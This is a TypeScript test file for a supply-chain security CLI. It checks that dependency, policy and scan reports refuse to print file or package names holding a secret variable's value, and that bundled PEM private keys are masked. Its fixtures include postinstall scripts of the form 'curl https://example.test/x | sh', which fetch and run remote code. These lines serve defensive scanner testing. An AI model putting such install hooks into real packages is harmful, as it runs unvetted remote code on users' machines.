import { describe, expect, it } from 'vitest';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { runCli, type CliResult } from '../support/cli.js';
import { tempDir } from '../support/tmp.js';

/**
 * `sscs deps`, `sscs policy check` and `sscs scan` print data: file and package names, paths, evidence. The
 * output redactor would print a name holding a secret's value as `[REDACTED]`, a name that names nothing real,
 * with exit 0. Like `sscs digest`, they refuse it instead (exit 2), naming the variable and the part that holds
 * it, never the value, and print nothing on stdout and write no file.
 */
const TOKEN = 'glcbt-SuperSecretJobToken123456';
const env = { CI_JOB_TOKEN: TOKEN };
const FAST = { timeoutMs: 60_000 };

function lockfile(dependency: string): string {
  return JSON.stringify({
    name: 'app',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies: { [dependency]: '1.3.0' } },
      [`node_modules/${dependency}`]: { version: '1.3.0', resolved: `https://registry.npmjs.org/${dependency}/-/${dependency}-1.3.0.tgz`, integrity: 'sha512-AAAA' },
    },
  });
}

/** A package folder that scan reports an unexpected binary in (its file name is printed) and a remote install script. */
function packageFiles(root: string, binary: string, script = 'curl https://example.test/x | sh'): Record<string, string> {
  return {
    [`${root}/package.json`]: JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { postinstall: script } }),
    [`${root}/${binary}`]: '\x7fELF\x02\x01\x01\x00',
  };
}

const dir = tempDir({
  [`in-${TOKEN}/package-lock.json`]: lockfile('left-pad'),
  'named/package-lock.json': lockfile(`left-pad-${TOKEN}`),
  'clean/package-lock.json': lockfile('left-pad'),
  [`found/requirements-${TOKEN}.txt`]: 'requests==2.32.3\n',
  'clean/requirements.txt': 'requests==2.32.3\n',
  ...packageFiles(`pkg-${TOKEN}`, 'bin/tool'),
  ...packageFiles('inner', `bin/tool-${TOKEN}`),
  ...packageFiles('evidence', 'bin/tool', `curl https://example.test/${TOKEN} | sh`),
  ...packageFiles('cleanpkg', 'bin/tool'),
});

function allFiles(root: string): string[] {
  return readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name));
}
function expectRefused(r: CliResult, message: string, inputs: Set<string>): void {
  expect(r.exitCode, r.stderr).toBe(2);
  expect(r.stderr).toContain(`sscs: error: ${message} holds the value of the secret variable CI_JOB_TOKEN\n`);
  expect(r.stdout).toBe('');
  // The value is in no output: not on stdout or stderr, not hidden as [REDACTED], not in any file written.
  expect(`${r.stdout}${r.stderr}`).not.toContain(TOKEN);
  expect(r.stderr).not.toContain('[REDACTED]');
  expect(allFiles(dir).filter((f) => !inputs.has(f))).toEqual([]);
}

const OFFLINE = ['--offline', '--mode', 'warn'];
const CASES: Array<{ name: string; cwd?: string; args: string[]; message: string }> = [];
for (const format of ['text', 'json']) {
  CASES.push(
    { name: `deps --format ${format}: a folder name`, args: ['deps', `in-${TOKEN}/package-lock.json`, '--format', format], message: 'refusing to print the dependency graph: argument 1 (an input file name)' },
    { name: `deps --format ${format}: a package name`, args: ['deps', 'clean/package-lock.json', 'named/package-lock.json', '--format', format], message: 'refusing to print the dependency graph: package 2 of 2 read from named/package-lock.json (its name, version, dependency path or URL)' },
    { name: `policy check --format ${format}: a folder name`, args: ['policy', 'check', `in-${TOKEN}/package-lock.json`, ...OFFLINE, '--format', format], message: 'refusing to print the policy report: argument 1 (a lockfile or SBOM name)' },
    { name: `policy check --format ${format}: a package name`, args: ['policy', 'check', 'named/package-lock.json', ...OFFLINE, '--format', format], message: 'refusing to print the policy report: package 1 of 1 read from named/package-lock.json (its name, version, dependency path or URL)' },
    { name: `policy check --format ${format}: a lockfile found in the working folder`, cwd: 'found', args: ['policy', 'check', ...OFFLINE, '--format', format], message: 'refusing to print the policy report: lockfile 1 found in the working folder (its name)' },
    { name: `scan --format ${format}: a file name inside the package`, args: ['scan', 'inner', '--format', format], message: 'refusing to print the scan report: the file name of finding 2 of 2 (unexpected-binary)' },
    { name: `scan --format ${format}: evidence read from a file`, args: ['scan', 'evidence', '--format', format], message: 'refusing to print the scan report: the evidence or message of finding 1 of 2 (install-script-remote-code in package.json)' },
  );
}
// The text report does not name the folder it was given (it says `demo@1.0.0: ...`); JSON does (`target`).
CASES.push({ name: "scan --format json: the package folder's name", args: ['scan', `pkg-${TOKEN}`, '--format', 'json'], message: 'refusing to print the scan report: argument 1 (the package path)' });
CASES.push({ name: 'policy check --output: the report file is not written', args: ['policy', 'check', 'named/package-lock.json', ...OFFLINE, '--output', 'report.json', '--junit', 'report.xml'], message: 'report.json: refusing to write the policy report: package 1 of 1 read from named/package-lock.json (its name, version, dependency path or URL)' });

describe('data output holding a secret variable value', () => {
  it.each(CASES)('$name: refused with exit 2, naming the part and the variable', async ({ cwd, args, message }) => {
    const inputs = new Set(allFiles(dir));
    const r = await runCli(args, { cwd: cwd ? join(dir, cwd) : dir, env, ...FAST });
    expectRefused(r, message, inputs);
  });

  it('still prints ordinary names with a secret set, and a name holding a non-secret variable\'s value', async () => {
    const e = { ...env, CI_PROJECT_NAME: 'left-pad' };
    const deps = await runCli(['deps', 'clean/package-lock.json', '--format', 'json'], { cwd: dir, env: e, ...FAST });
    expect(deps.exitCode, deps.stderr).toBe(0);
    expect(JSON.parse(deps.stdout).sources).toEqual(['clean/package-lock.json']);
    const policy = await runCli(['policy', 'check', 'clean/package-lock.json', ...OFFLINE], { cwd: dir, env: e, ...FAST });
    expect(policy.exitCode, policy.stderr).toBe(0);
    expect(policy.stdout).toContain('1 packages from clean/package-lock.json');
    const scan = await runCli(['scan', 'cleanpkg', '--format', 'json'], { cwd: dir, env: e, ...FAST });
    expect(scan.exitCode, scan.stderr).toBe(1);
    expect(JSON.parse(scan.stdout).target).toBe('cleanpkg');
    // A name only the JSON report prints: the text report of the same folder is printed, and holds no value.
    const text = await runCli(['scan', `pkg-${TOKEN}`], { cwd: dir, env: e, ...FAST });
    expect(text.exitCode, text.stderr).toBe(1);
    expect(text.stdout).toContain('demo@1.0.0: ');
    expect(text.stdout + text.stderr).not.toContain(TOKEN);
    for (const r of [deps, policy, scan, text]) expect(r.stdout).not.toContain('[REDACTED]');
  });

  it('names a secret variable of any name, and finds a value a text report escapes', async () => {
    // A value with a control character prints as `\x09` in text reports, where the redactor would not see it.
    const odd = 'tab\there-deploy-secret';
    const d = tempDirFor({ [`p/bin/tool-${odd}`]: '\x7fELF\x02\x01\x01\x00', 'p/package.json': '{"name":"demo","version":"1.0.0"}' });
    for (const format of ['text', 'json']) {
      const r = await runCli(['scan', 'p', '--format', format], { cwd: d, env: { deploy_secret: odd }, ...FAST });
      expect(r.exitCode, r.stderr).toBe(2);
      expect(r.stderr).toContain('refusing to print the scan report: the file name of finding 1 of 1 (unexpected-binary) holds the value of the secret variable deploy_secret');
      expect(r.stdout).toBe('');
      expect(r.stderr).not.toContain('here-deploy-secret');
    }
    expect(readFileSync(join(d, 'p/package.json'), 'utf8')).toContain('demo');
  });
});

const extra = tempDir();
let n = 0;
/** A folder of its own under a temporary folder made at load time (tempDir must be called outside a test). */
function tempDirFor(files: Record<string, string>): string {
  const d = join(extra, String(n++));
  for (const [rel, content] of Object.entries(files)) {
    const path = join(d, rel);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
  }
  return d;
}

describe('a PEM private key a package carries', () => {
  it('is reported as one in the evidence, not refused: the verdict stands (exit 1) and the key line is not printed', async () => {
    // A package may carry a key (a test fixture, or one put there to turn its verdict into exit 2).
    const header = '-----BEGIN RSA PRIVATE KEY-----';
    const d = tempDirFor({
      ...packageFiles('keyed', 'bin/tool', `curl https://example.test/x | sh # ${header}MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu`),
      // A tab the evidence turns into a space, completing a key line only after that.
      ...packageFiles('tabbed', 'bin/tool', 'curl https://example.test/x | sh # -----BEGIN\tPRIVATE KEY-----'),
      // The key line as a file name, and as the package's name.
      ...packageFiles('named', `bin/${header}`),
      'pkgname/package.json': JSON.stringify({ name: header, version: '1.0.0', scripts: { postinstall: 'curl https://example.test/x | sh' } }),
    });
    for (const pkg of ['keyed', 'tabbed', 'named', 'pkgname']) {
      for (const format of ['text', 'json']) {
        const r = await runCli(['scan', pkg, '--format', format], { cwd: d, env, ...FAST });
        expect(r.exitCode, `${pkg} ${format}: ${r.stderr}`).toBe(1);
        expect(r.stdout).toContain('[PEM private key]');
        expect(r.stdout + r.stderr).not.toMatch(/PRIVATE KEY-----/);
      }
    }
  });
});
